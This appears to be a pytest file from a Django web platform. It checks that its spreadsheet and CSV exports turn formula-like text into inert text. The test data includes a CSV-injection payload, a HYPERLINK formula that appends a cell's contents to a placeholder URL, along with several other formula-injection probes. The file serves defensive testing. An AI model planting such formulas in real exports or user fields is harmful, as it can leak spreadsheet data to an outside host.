"""Spreadsheets and CSV files the platform writes never carry a live formula.

A secretariat controls its community's name; the supervisor opens the results file. A name
typed as a formula must reach the supervisor as the text it is.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from iecommons.analytics import cli as analytics_cli
from iecommons.assessment.services import run_execution
from iecommons.assessment.services import runs as run_services
from iecommons.common.exports import CsvWriter, append_row, new_workbook, workbook_bytes
from tests.assessment.runs_world import assessment_world
from tests.fixtures import World

LINK = '=HYPERLINK("http://x"&F2,"Open")'


def test_formula_like_text_is_stored_as_text_and_numbers_stay_numbers():
    workbook, sheet = new_workbook()
    append_row(sheet, [LINK, "+86 519", "-1", "@SUM(A1)", "\t=1", "\r=1", "plain", -3, 2.5, 0])
    cells = next(load_workbook(io.BytesIO(workbook_bytes(workbook))).active.iter_rows())
    values = [cell.value for cell in cells[:7]]
    assert values[5] == "\n=1"  # XML reads a carriage return back as a line feed
    assert values[:5] + values[6:] == [LINK, "+86 519", "-1", "@SUM(A1)", "\t=1", "plain"]
    assert {cell.data_type for cell in cells[:7]} == {"s"}
    assert all(cell.quotePrefix for cell in cells[:6])  # stays text if someone edits it
    assert [(cell.value, cell.data_type) for cell in cells[7:]] == [(-3, "n"), (2.5, "n"), (0, "n")]


def test_formula_like_text_in_csv_gets_a_leading_quote_and_numbers_do_not():
    buffer = io.StringIO()
    CsvWriter(buffer).writerow([LINK, "-1", "@x", "\tx", "\rx", "plain", -3, 1.5])
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["'" + LINK, "'-1", "'@x", "'\tx", "'\rx", "plain", "-3", "1.5"]


@pytest.mark.django_db
def test_a_community_renamed_as_a_formula_reaches_the_supervisor_as_text(world: World):
    secretary = Client()
    secretary.force_login(world.secretary)
    renamed = secretary.patch(
        f"/api/communities/{world.community_a.pk}",
        {"name": LINK, "name_en": LINK},
        content_type="application/json",
    )
    assert renamed.status_code == 200, renamed.content
    assessed = assessment_world(world)
    started = run_services.evaluation_run_start(
        actor=world.supervisor, cycle=assessed.cycle, enqueue=False
    )
    run = run_execution.evaluation_run_execute(run_id=started.pk)
    supervisor = Client()
    supervisor.force_login(world.supervisor)
    response = supervisor.get(
        reverse("assessment:results_export", args=[run.pk]), HTTP_ACCEPT_LANGUAGE="en"
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    names = [row[1] for row in sheet.iter_rows(min_row=2)]
    renamed_cells = [cell for cell in names if cell.value == LINK]
    assert len(renamed_cells) == 1
    assert renamed_cells[0].data_type == "s"  # text, not a formula ("f")
    assert all(row[5].data_type == "n" for row in sheet.iter_rows(min_row=2))  # the scores


def test_the_command_line_csv_neutralises_an_alternative_named_as_a_formula(capsys, tmp_path):
    import argparse

    path = tmp_path / "matrix.csv"
    path.write_text("name,a,b\n=1+2,1,2\nB,2,1\n", encoding="utf-8")
    parser = argparse.ArgumentParser(prog="iecommons")
    analytics_cli.add_commands(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(["evaluate", str(path), "--weights", "equal", "--format", "csv"])
    assert args.handler(args) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1][0] == "'=1+2" or rows[2][0] == "'=1+2"
    assert all(not row[0].startswith("=") for row in rows)
